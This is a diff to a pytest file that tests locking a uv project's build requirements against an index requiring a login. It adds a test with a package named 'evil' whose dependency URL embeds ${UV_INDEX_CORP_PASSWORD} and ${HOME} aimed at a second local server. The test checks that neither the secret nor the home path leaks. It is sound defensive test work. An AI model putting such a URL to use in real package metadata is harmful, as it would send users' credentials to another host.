@@ -32,27 +32,33 @@ LOCK = 'version = 1\nrequires-python = ">=3.9"\n[[package]]\nname = "p"\nversion
 
 
 @pytest.fixture
-def lock(tmp_path, monkeypatch):
+def index():
+    index = Index([package("back", "1.0")])
+    index.credentials = "alice:s3cret"
+    return index
+
+
+@pytest.fixture
+def lock(tmp_path, monkeypatch, index):
     """Return a function that locks the build requirements of a project, whose index requires a login."""
     for name in [name for name in os.environ if name.startswith("UV_")]:
         monkeypatch.delenv(name)
     monkeypatch.setenv("HOME", str(tmp_path))
     monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "cache"))
     monkeypatch.delenv("NETRC", raising=False)
-    index = Index([package("back", "1.0")])
-    index.credentials = "alice:s3cret"
     (tmp_path / "p").mkdir()
     (tmp_path / "p/uv.lock").write_text(LOCK)
     with serve(index) as address:
         (tmp_path / "p/pyproject.toml").write_text(PROJECT.format(address))
 
-        def run():
+        def run(name="back"):
+            (tmp_path / "p/pyproject.toml").write_text(PROJECT.format(address).replace('"back"]', f'"{name}"]'))
             project = UvProject.read(tmp_path / "p", "")
-            (tmp_path / "scratch").mkdir(exist_ok=True)
+            (tmp_path / "scratch/uv").mkdir(parents=True, exist_ok=True)
             indexes = _write_settings(project, tmp_path / "scratch")
             return _lock(project, tmp_path / "scratch", str(Path(UV).absolute()), indexes)[0]
 
-        run.address, run.sha256 = address, index.sha256(FILE)
+        run.address, run.sha256, run.project = address, index.sha256(FILE), tmp_path / "p"
         yield run
 
 
@@ -64,6 +70,19 @@ def test_a_login_of_netrc_is_for_build_requirements_too(lock, tmp_path):
     (tmp_path / "cache").rename(tmp_path / "before")
     with pytest.raises(BentoError):  # not for a host that the project chooses
         lock()
+
+
+def test_metadata_of_a_build_requirement_sends_no_variable(lock, monkeypatch, index):
+    other = Index([])
+    with serve(other) as strange:
+        index.add(package("evil", "1.0", f"b @ {strange}/${{UV_INDEX_CORP_PASSWORD}}/${{HOME}}/b-1.0-py3-none-any.whl"))
+        index.credentials = ""
+        monkeypatch.setenv("UV_INDEX_CORP_PASSWORD", "s3cret")
+        with pytest.raises(BentoError) as error:
+            lock("evil")
+    assert "s3cret" not in str(error.value)
+    assert os.environ["HOME"] not in str(error.value).replace(str(lock.project), "")
+    assert other.requests == []
 
 
 def test_the_variables_in_the_message_work(lock, monkeypatch):
